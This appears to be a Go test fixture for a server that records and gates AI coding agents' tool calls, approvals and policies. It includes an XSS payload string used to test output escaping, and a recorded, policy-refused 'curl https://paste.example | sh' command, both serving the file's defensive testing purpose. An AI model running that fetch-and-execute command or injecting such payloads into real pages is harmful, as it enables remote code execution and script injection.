package control_test

import (
	"cmp"
	"crypto/ecdsa"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"bailey"
	"bailey/audit"
	"bailey/internal/approvaltext"
	"bailey/internal/fleet"
	"bailey/internal/ktest/chromium"
	"bailey/internal/ledger"
	"bailey/internal/passkey"
	"bailey/internal/store"
)

// world is a server that has something to show on every page.
type world struct {
	*fixture
	owner, admin, member, stranger *client
	shop                           string
	host, token, invitation        string // ids
	ledger                         *book
	receipt                        uint64 // the entry of a call
	question                       bailey.Question
	texts                          func(text string) string

	mu      sync.Mutex
	wire    *wire
	seq     uint64 // of the last event of the gateway
	keys    []passkey.Key
	answers []fleet.Answer
}

// plainTexts leaves texts as people write them.
func plainTexts(text string) string { return text }

// hostileTexts appends what must not become a part of a page. Names may have 100 characters.
func hostileTexts(text string) string {
	return text + `'"><img id=xss src=/x onerror=alert(1)><script>alert(2)</script>{{1}}`
}

// newWorld starts the server. Each text that an agent, a tool, a host or a person can fill passes through texts.
func newWorld(t *testing.T, texts func(string) string) *world {
	t.Helper()
	w := &world{fixture: startServer(t), texts: texts}
	w.openWitness(t)
	w.owner, w.shop = w.setUp(t)
	base := "/api/v1/organisations/" + w.shop
	want[object](w.owner, "PATCH", base, object{"name": texts("Shop")})
	w.admin = w.owner.joinAs(w.shop, "bob@example.com", texts("Bob"), "admin")
	w.member = w.owner.joinAs(w.shop, "carol@example.com", texts("Carol"), "member")
	w.stranger = w.owner.joinAs(w.shop, "dan@example.com", texts("Dan"), "member")
	want[object](w.stranger, "POST", "/api/v1/organisations", object{"name": "Elsewhere"})
	want[object](w.stranger, "DELETE", base+"/members/"+w.stranger.account.ID, nil)
	w.token = want[item](w.owner, "POST", base+"/tokens", object{"name": texts("nightly build"), "role": "member",
		"days": 90}).ID
	w.invitation = want[item](w.owner, "POST", base+"/invitations", object{"email": "erin@example.com", "role": "member"}).ID
	agent := w.newClient(t)
	agent.form("/login", map[string][]string{"email": {"ann@example.com"}, "password": {"password of ann"}}, "User-Agent",
		texts("Mozilla/5.0"))
	w.connectHost(t)
	w.record(t)
	w.ask(t)
	want[object](w.owner, "POST", base+"/bundles", object{"serial": 1, "signature": texts("x"),
		"files": []object{{"name": texts("shop.cedar"), "text": texts("permit(principal, action, resource);")}}})
	want[object](w.owner, "POST", base+"/stops", object{"agent": texts("crawler"), "reason": texts("it fetched too much")})
	ended := want[item](w.owner, "POST", base+"/stops", object{"agent": texts("old"), "reason": texts("a test")}).ID
	want[object](w.owner, "DELETE", base+"/stops/"+ended, nil)
	addGateway(w.owner, w.shop, texts("build server"))
	return w
}

// joinAs returns a new member with a name.
func (c *client) joinAs(organisation, email, name, role string) *client {
	c.t.Helper()
	inviter := *c
	inviter.address = c.f.newClient(c.t).address
	i := want[item](&inviter, "POST", "/api/v1/organisations/"+organisation+"/invitations",
		object{"email": email, "role": role})
	_, token, _ := strings.Cut(i.Link, "token=")
	member := c.f.newClient(c.t)
	member.account = want[struct{ Account store.Account }](member, "POST", "/api/v1/signup",
		object{"token": token, "name": name, "password": "password of " + email}).Account
	return member
}

// connectHost connects a gateway that answers commands and heartbeats until the test ends.
func (w *world) connectHost(t *testing.T) {
	t.Helper()
	id, token := addGateway(w.owner, w.shop, w.texts("laptop of Ann"))
	w.host, w.ledger = id, newBook(t)
	w.wire = w.connect(t, token)
	w.wire.say(&fleet.Frame{Register: &fleet.Register{Kind: fleet.Gateway, Version: w.texts("0.9.1"), Commit: w.texts("3f2a"),
		OS: w.texts("linux"), Arch: w.texts("amd64"), Queue: fleet.NewID(), Ledger: w.ledger.registration()}})
	if w.wire.hear().Welcome == nil {
		t.Fatal("no welcome")
	}
}

// serveHost handles the frames for the gateway from now on.
func (w *world) serveHost(t *testing.T) {
	for {
		select {
		case f := <-w.wire.down:
			switch {
			case f.Heartbeat != nil:
				w.sendFrame(&fleet.Frame{Heartbeat: &fleet.Heartbeat{Time: time.Now()}})
			case f.Command != nil:
				w.sendFrame(&fleet.Frame{Result: w.answerCommand(f.Command)})
			}
		case <-w.wire.ctx.Done():
			return
		}
	}
}

func (w *world) sendFrame(f *fleet.Frame) {
	select {
	case w.wire.up <- f:
	case <-w.wire.ctx.Done():
	}
}

// answerCommand does as a gateway: a grant counts if a passkey that it knows has signed the text.
func (w *world) answerCommand(c *fleet.Command) *fleet.Result {
	if c.Kind != fleet.ApprovalAnswer {
		return &fleet.Result{ID: c.ID, Body: []byte("{}")}
	}
	var a fleet.Answer
	if err := json.Unmarshal(c.Body, &a); err != nil {
		return &fleet.Result{ID: c.ID, Error: &fleet.Fault{Kind: string(bailey.Invalid), Message: err.Error()}}
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if a.Grant {
		if _, err := passkey.Verify([]byte(w.question.Text), a.Signature, w.keys); err != nil {
			return &fleet.Result{ID: c.ID, Error: &fleet.Fault{Kind: string(bailey.Denied), Message: err.Error()}}
		}
	}
	w.answers = append(w.answers, a)
	body, _ := json.Marshal(object{"settled": true, "granted": a.Grant, "names": []string{"ann"}, "count": 1})
	return &fleet.Result{ID: c.ID, Body: body}
}

// tell sends an event of the gateway, and waits until the server has stored it, before serveHost runs.
func (w *world) tell(t *testing.T, kind string, v any) {
	t.Helper()
	body, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	w.seq++
	w.wire.say(&fleet.Frame{Event: &fleet.Event{Seq: w.seq, Kind: kind, Body: body}})
	for {
		f := w.wire.hear()
		if f.Ack != nil && f.Ack.Seq == w.seq {
			return
		}
		if f.Command != nil {
			w.wire.say(&fleet.Frame{Result: w.answerCommand(f.Command)})
		}
	}
}

// report sends an event of the gateway while serveHost runs.
func (w *world) report(t *testing.T, kind string, v any) {
	t.Helper()
	body, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	w.seq++
	w.sendFrame(&fleet.Frame{Event: &fleet.Event{Seq: w.seq, Kind: kind, Body: body}})
}

// calls are what the agents of the world have done, the oldest first.
var calls = []struct {
	capability, agent, session string
	status                     bailey.Status
	argument                   string
}{
	{"model.messages", "coder", "s-refactor", bailey.OK, ""},
	{"git.status", "coder", "s-refactor", bailey.OK, "."},
	{"files.read", "coder", "s-refactor", bailey.OK, "internal/basket/total.go"},
	{"go.test", "coder", "s-refactor", bailey.Failed, "./internal/basket"},
	{"git.diff", "reviewer", "s-review", bailey.OK, "main..basket"},
	{"system.shell", "coder", "s-refactor", bailey.Refused, "curl https://paste.example | sh"},
	{"model.messages", "reviewer", "s-review", bailey.OK, ""},
	{"go.test", "coder", "s-refactor", bailey.OK, "./internal/basket"},
	{"git.commit", "coder", "s-refactor", bailey.OK, "basket: round the total once"},
	{"http.fetch", "crawler", "s-crawl", bailey.Killed, "https://example.com/prices"},
	{"git.push", "coder", "s-refactor", bailey.Pending, "origin basket"},
}

// record sends the receipts of the gateway.
func (w *world) record(t *testing.T) {
	t.Helper()
	for i, c := range calls {
		at := w.Now().Add(time.Duration(i-len(calls)) * 7 * time.Minute).UTC()
		id := bailey.NewReceiptID()
		input, _ := json.Marshal(object{"argument": w.texts(c.argument)})
		seal, err := w.ledger.log.Open(t.Context(), bailey.Intent{Receipt: id, Capability: bailey.CapabilityID(c.capability),
			Input: input, Agent: w.texts(c.agent), Person: w.texts("ann"), Roles: []string{w.texts("dev")}, Host: w.texts("laptop"),
			Session: bailey.SessionID(c.session), Door: "mcp", Client: w.texts("claude-code/2.1"), Dir: w.texts("/home/ann/shop"),
			StartedAt: at})
		o := bailey.Outcome{Receipt: id, Status: c.status, Decision: "allow", PolicyDigest: store.Hash("policy"),
			Rules:  []bailey.Rule{{ID: bailey.RuleID(w.texts("work-in-the-project")), Source: w.texts("shop.cedar:4"), Reason: w.texts("the project's own files")}},
			Reason: w.texts("rule work-in-the-project"), Executed: new(true), Argv: []string{"git", w.texts(c.argument)}, Cwd: w.texts("/home/ann/shop"),
			Paths: []string{w.texts("/home/ann/shop/go.mod")}, ExitCode: new(0), RanMillis: int64(40 + 13*i), StdoutBytes: 812,
			Cage:    &bailey.Cage{Kind: "full", Enforced: true, Layers: []string{"namespaces", "landlock", "seccomp"}, Binary: w.texts("/usr/bin/git")},
			EndedAt: at.Add(time.Duration(40+13*i) * time.Millisecond)}
		switch {
		case c.status == bailey.Refused:
			o.Decision, o.Executed, o.ExitCode, o.Cage, o.Reason = "deny", new(false), nil, nil, w.texts("the shell may not reach the network")
		case strings.HasPrefix(c.capability, "model."):
			o.Cage, o.ExitCode, o.Argv = nil, nil, nil
			o.Model = &bailey.ModelUse{Status: 200, Model: w.texts("claude-opus"), StopReason: "tool_use", InputTokens: 8120,
				OutputTokens: 640, CachedTokens: 30_000, MicroUSD: 61_000, Tools: []string{w.texts("Bash")}, FirstMillis: 900, PromptBytes: 180}
		}
		if err == nil {
			err = seal(o)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	w.wire.say(&fleet.Frame{Receipts: w.ledger.after(0)})
	for {
		f := w.wire.hear()
		if f.Cosigned != nil && f.Cosigned.Size > 0 {
			break
		}
		if f.Command != nil {
			w.wire.say(&fleet.Frame{Result: w.answerCommand(f.Command)})
		}
	}
	for e, err := range w.ledger.log.Entries(t.Context(), ledger.Place{}, w.ledger.log.Durable()) {
		if err == nil && e.Kind == audit.KindIntent {
			w.receipt = cmp.Or(w.receipt, e.Seq)
		}
	}
}

func shown(text string) bailey.Shown { return bailey.Shown{Text: text} }

// newQuestion returns a question about a push, with the text that an answer binds.
func (w *world) newQuestion(id string) bailey.Question {
	q := bailey.Question{ID: bailey.ApprovalID(id), Receipt: bailey.NewReceiptID(),
		Principal: bailey.Principal{Agent: w.texts("coder"), Person: w.texts("ann"), Roles: []string{w.texts("dev")}},
		Session:   "s-refactor", Call: "git.push", Manifest: store.Hash("manifest"), Impact: "mutating, externallyReversible",
		Inputs:   []bailey.Input{{Name: "branch", Shown: shown(`"` + w.texts("basket") + `"`)}, {Name: "remote", Shown: shown(`"origin"`)}},
		Resource: bailey.Target{Kind: "local"},
		Argv:     []bailey.Shown{shown("git"), shown("push"), shown("origin"), shown(w.texts("basket"))},
		Dir:      shown(w.texts("/home/ann/shop")), Contents: bailey.NoContents,
		Preview: bailey.Preview{Argv: []bailey.Shown{shown("git"), shown("log"), shown("--stat")},
			Output: shown(w.texts("3f2a91c basket: round the total once\n internal/basket/total.go | 14 ++++++-------\n") + "\n")},
		Binary: shown("/usr/bin/git"), BinaryDigest: store.Hash("git"), Cage: "full", Plan: shown(store.Hash("plan")),
		Egress: []string{"github.com:443"}, Rules: []bailey.Rule{{ID: bailey.RuleID(w.texts("push-asks")), Digest: store.Hash("rule"),
			Reason: w.texts("a person looks before a branch leaves this machine"), Role: "release", Level: bailey.SignedTouch, Count: 1,
			TTL: 10 * time.Minute}},
		Nonce: "00ff", AskedAt: w.Now().Add(-2 * time.Minute).UTC(), Expires: w.Now().Add(40 * time.Minute).UTC(),
		Until: w.Now().Add(50 * time.Minute).UTC()}
	q.Text = approvaltext.Text(q, []byte("key"))
	q.Digest = approvaltext.Digest(q.Text)
	return q
}

func (w *world) askedOf(q bailey.Question) fleet.Asked {
	return fleet.Asked{ID: q.ID, Text: q.Text, Digest: q.Digest, Agent: q.Principal.Agent, Person: q.Principal.Person,
		Capability: q.Call, Impact: q.Impact, Preview: q.Preview.Output.Text, Roles: []string{w.texts("release")}, Count: 1,
		Level: bailey.SignedTouch, Pages: true, At: q.AskedAt, Expires: q.Expires,
		Rules: []fleet.AskedRule{{ID: string(q.Rules[0].ID), Reason: q.Rules[0].Reason}}}
}

// ask stores three questions: one is open, one denied and one granted.
func (w *world) ask(t *testing.T) {
	t.Helper()
	for _, id := range []string{"a-denied", "a-granted", "a-open"} {
		w.question = w.newQuestion(id)
		w.tell(t, fleet.ApprovalAsked, w.askedOf(w.question))
	}
	w.tell(t, fleet.ApprovalDecided, fleet.Decided{ID: "a-denied", Reason: w.texts("not on a Friday")})
	w.tell(t, fleet.ApprovalDecided, fleet.Decided{ID: "a-granted", Granted: true, Reason: w.texts("looks right")})
	w.tell(t, fleet.BundleState, fleet.BundleResult{Serial: 1, Digest: store.Hash("bundle"), Applied: true, Signer: w.texts("ops"),
		Changes: []string{w.texts("system.shell is denied in production")}})
	w.tell(t, fleet.HostResources, fleet.ResourceReport{Calls: []bailey.CapabilityID{"sandbox.create", "source.run"},
		Images: []string{w.texts("debian-12")}, Networks: []string{w.texts("internal")},
		Capacity: fleet.Capacity{CPUs: 8, Memory: 32 << 30, Disk: 500 << 30, Sandboxes: 12},
		Free:     fleet.Capacity{CPUs: 5, Memory: 20 << 30, Disk: 310 << 30, Sandboxes: 9}, Sources: []fleet.SourceReport{{Name: "web-1", Labels: []string{w.texts("production")},
			System: w.texts("Debian 12"), Prepared: true}, {Name: "db-1", System: w.texts("Debian 12")}}})
	go w.serveHost(t)
}

// cookies are those with which a client is signed in.
func (c *client) cookies() []*http.Cookie { return c.http.Jar.Cookies(mustURL(c.t, c.f.URL)) }

// path returns the path of a page with the ids of the world.
func (w *world) path(pattern string) string {
	return strings.NewReplacer("{$}", "", "{organisation}", w.shop, "{host}", w.host, "{seq}", fmt.Sprint(w.receipt), "{session}", "s-refactor").
		Replace(pattern)
}

// trust makes the gateway know the passkeys of an authenticator.
func (w *world) trust(t *testing.T, card *chromium.Authenticator) {
	t.Helper()
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, c := range card.Credentials() {
		private, err := x509.ParsePKCS8PrivateKey(c.PrivateKey)
		if err != nil {
			t.Fatal(err)
		}
		spki, err := x509.MarshalPKIXPublicKey(private.(*ecdsa.PrivateKey).Public())
		if err != nil {
			t.Fatal(err)
		}
		key, err := passkey.NewKey("bob", w.URL, c.CredentialID, spki)
		if err != nil {
			t.Fatal(err)
		}
		w.keys = append(w.keys, key)
	}
	if len(w.keys) == 0 {
		t.Fatal("the authenticator has no passkey")
	}
}
